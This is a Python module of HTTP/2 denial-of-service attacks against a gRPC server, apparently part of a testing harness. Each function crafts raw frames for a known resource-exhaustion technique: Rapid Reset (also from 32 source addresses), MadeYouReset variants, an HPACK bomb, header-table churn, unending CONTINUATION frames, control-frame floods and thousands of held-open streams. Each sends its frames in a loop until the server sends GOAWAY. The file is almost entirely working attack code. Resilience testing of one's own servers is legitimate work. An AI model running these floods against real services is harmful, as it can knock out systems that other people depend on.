"""HTTP/2 frames that cost the server more than the attacker."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from dataclasses import replace

import numpy as np
from attacks import h2
from attacks.aim import H2, Aim, addresses, attack
from attacks.questions import message
from attacks.wire import Line, Script

PREFACE = h2.PREFACE + h2.settings(window=2**30) + h2.widen(0, 2**30)
TOGETHER = 200


def calls() -> tuple[bytes, bytes, bytes]:
    """The header block of a connection's first call, that of all others, and a whole message of one row."""
    row = np.zeros((1, 1), np.float32)
    return *h2.blocks(h2.grpc_fields()), h2.message(message("X", row))


def streamed(make: Callable[[int], bytes]) -> Script:
    """A first whole call, so that the table is filled, then what is made of ever new streams, as fast as it goes."""
    first, _, body = calls()

    def script(line: Line) -> Iterator[bytes | float]:
        numbers = h2.streams()
        stream = next(numbers)
        yield PREFACE + h2.frame(h2.HEADERS, h2.END_HEADERS, stream, first) + h2.body_frames(stream, body)
        yield 0.05
        while not line.goaway:
            yield b"".join(make(stream) for stream in itertools.islice(numbers, TOGETHER))

    return script


def frames(data: bytes, opened: bytes = b"") -> Script:
    """The same frames again and again, after others that open what they need."""
    together = data * max(1, 16_384 // len(data))

    def script(line: Line) -> Iterator[bytes | float]:
        yield PREFACE
        yield 0.05
        if opened:
            yield opened
        while not line.goaway:
            yield together

    return script


def call(stream: int, block: bytes, body: bytes) -> bytes:
    return h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block) + h2.body_frames(stream, body)


@attack("rapid reset: HEADERS, DATA, RST_STREAM")
def rapid_reset(aim: Aim) -> None:
    _, block, body = calls()
    aim.grpc(streamed(lambda stream: call(stream, block, body) + h2.reset(stream)))


@attack("rapid reset from 32 addresses")
def rapid_reset_addresses(aim: Aim) -> None:
    _, block, body = calls()
    for source in addresses(32):
        how = replace(H2, source=source)
        aim.grpc(streamed(lambda stream: call(stream, block, body) + h2.reset(stream)), how)


@attack("rapid reset, 1 of 4 calls left alone")
def reset_some(aim: Aim) -> None:
    _, block, body = calls()
    aim.grpc(
        streamed(lambda stream: call(stream, block, body) + (h2.reset(stream) if stream % 8 != 1 else b""))
    )


@attack("whole calls, as many as possible, on 8 connections")
def calls_only(aim: Aim) -> None:
    _, block, body = calls()
    aim.grpc(streamed(lambda stream: call(stream, block, body)), count=8)


@attack("MadeYouReset: a window of 0, or beyond 2^31, after a whole call")
def made_you_reset_window(aim: Aim) -> None:
    _, block, body = calls()
    aim.grpc(
        streamed(lambda stream: call(stream, block, body) + h2.widen(stream, (0, 2**31 - 1)[stream // 2 % 2]))
    )


@attack("MadeYouReset: DATA after the end of a whole call")
def made_you_reset_data(aim: Aim) -> None:
    _, block, body = calls()
    aim.grpc(streamed(lambda stream: call(stream, block, body) + h2.frame(h2.DATA, 0, stream, b"x")))


@attack("MadeYouReset: PRIORITY of a wrong size, or on itself, after a whole call")
def made_you_reset_priority(aim: Aim) -> None:
    _, block, body = calls()

    def priority(stream: int) -> bytes:
        payload = b"\x00" if stream % 4 == 1 else stream.to_bytes(4, "big") + b"\x01"
        return h2.frame(h2.PRIORITY, 0, stream, payload)

    aim.grpc(streamed(lambda stream: call(stream, block, body) + priority(stream)))


@attack("MadeYouReset: a body longer than its content-length")
def made_you_reset_length(aim: Aim) -> None:
    _, block, body = calls()
    short = block + b"\x0f\x0d\x011"  # content-length: 1, not indexed
    aim.grpc(streamed(lambda stream: call(stream, short, body)))


@attack("HEADERS on streams that the server has reset, 700 indexed fields each")
def headers_on_reset(aim: Aim) -> None:
    _, block, _ = calls()
    many = h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 3, b"\x82" * 700)

    def script(line: Line) -> Iterator[bytes | float]:
        first, _, body = calls()
        yield PREFACE + call(1, first, body)
        yield h2.frame(h2.HEADERS, h2.END_HEADERS, 3, block) + h2.widen(3, 0)
        yield 0.05
        while not line.goaway:
            yield many * 50

    aim.grpc(script)


@attack("HEADERS of a call with 600 more fields")
def many_fields_h2(aim: Aim) -> None:
    _, block, body = calls()
    more = block + b"\x00\x01a\x01b" * 600
    aim.grpc(streamed(lambda stream: call(stream, more, body)), count=4)


@attack("HEADERS, each of a new name and value in the table")
def table_churn(aim: Aim) -> None:
    _, _, body = calls()
    plain = b"".join(
        b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
        for name, value in h2.grpc_fields()
    )
    aim.grpc(
        streamed(
            lambda stream: call(
                stream, plain + b"\x40\x0c" + b"%012d" % stream + b"\x0c" + b"%012d" % stream, body
            )
        ),
        count=4,
    )


@attack("HPACK bomb: a field of 3 kB, named 1,000 times")
def hpack_bomb(aim: Aim) -> None:
    _, block, _ = calls()
    large = b"\x40\x01x\x7f" + _integer(3_000 - 127) + b"a" * 3_000

    def script(line: Line) -> Iterator[bytes | float]:
        first, _, body = calls()
        yield PREFACE + call(1, first, body) + call(3, block + large, body)
        yield 0.02
        numbers = h2.streams(5)
        while not line.goaway:
            for stream in itertools.islice(numbers, 20):
                yield h2.frame(h2.HEADERS, h2.END_HEADERS, stream, b"\xbe" * 1_000)

    aim.grpc(script)


@attack("HPACK: changes of the table's size, 8,000 in a block")
def table_sizes(aim: Aim) -> None:
    _, block, body = calls()
    aim.grpc(streamed(lambda stream: call(stream, b"\x20\x3f\xe1\x1f" * 2_000 + block, body)), count=4)


@attack("CONTINUATION without an end")
def continuations(aim: Aim) -> None:
    opened = h2.frame(h2.HEADERS, 0, 1, b"\x82")
    aim.grpc(frames(h2.frame(h2.CONTINUATION, 0, 1, b"\x84" * 100), opened), count=4)
    aim.grpc(frames(h2.frame(h2.CONTINUATION, 0, 1), opened), count=4)


@attack("SETTINGS, PING, WINDOW_UPDATE, PRIORITY and unknown frames, each on a connection")
def control_frames(aim: Aim) -> None:
    for kind in (
        h2.settings(window=65_535),
        h2.settings(),
        h2.settings(table=0) + h2.settings(table=4096),
        h2.frame(h2.SETTINGS, h2.ACK, 0),
        h2.frame(h2.PING, 0, 0, b"attacker"),
        h2.frame(h2.PING, h2.ACK, 0, b"attacker"),
        h2.widen(0, 1),
        h2.frame(h2.PRIORITY, 0, 1, b"\x00\x00\x00\x00\x01"),
        h2.frame(0x55, 0, 0, b"?"),
        h2.frame(0x10, 0, 0, b"\x00\x00\x00\x01u=1"),
        h2.frame(h2.GOAWAY, 0, 0, bytes(8)),
    ):
        aim.grpc(frames(kind))


@attack("SETTINGS that change the window of 1,000 open streams")
def window_settings(aim: Aim) -> None:
    first, block, _ = calls()
    opened = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, first) + b"".join(
        h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block) for stream in range(3, 2_001, 2)
    )
    aim.grpc(frames(h2.settings(window=65_535) + h2.settings(window=65_536), opened), count=4)


@attack("1,000 open streams without a body on each of 50 connections")
def open_streams(aim: Aim) -> None:
    first, block, _ = calls()
    opened = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, first) + b"".join(
        h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block) for stream in range(3, 2_001, 2)
    )

    def script(_: Line) -> Iterator[bytes | float]:
        yield PREFACE
        yield 0.05
        yield opened
        yield 3600.0

    aim.grpc(script, count=50)


@attack("DATA of one byte, and of padding only")
def small_data(aim: Aim) -> None:
    first, _, _ = calls()
    opened = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, first)
    aim.grpc(frames(h2.frame(h2.DATA, 0, 1, b"x"), opened), count=2)
    aim.grpc(frames(h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(255)), opened), count=2)
    aim.grpc(frames(h2.frame(h2.DATA, 0, 1), opened), count=2)


@attack("trailers without end, again and again")
def trailers(aim: Aim) -> None:
    first, _, _ = calls()
    opened = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, first)
    aim.grpc(frames(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, b"\x00\x01a\x01b" * 100), opened), count=4)


def _integer(value: int) -> bytes:
    """The rest of an HPACK integer that does not fit into its prefix."""
    found = bytearray()
    while value >= 128:
        found.append(value % 128 | 128)
        value //= 128
    return bytes(found) + bytes((value,))
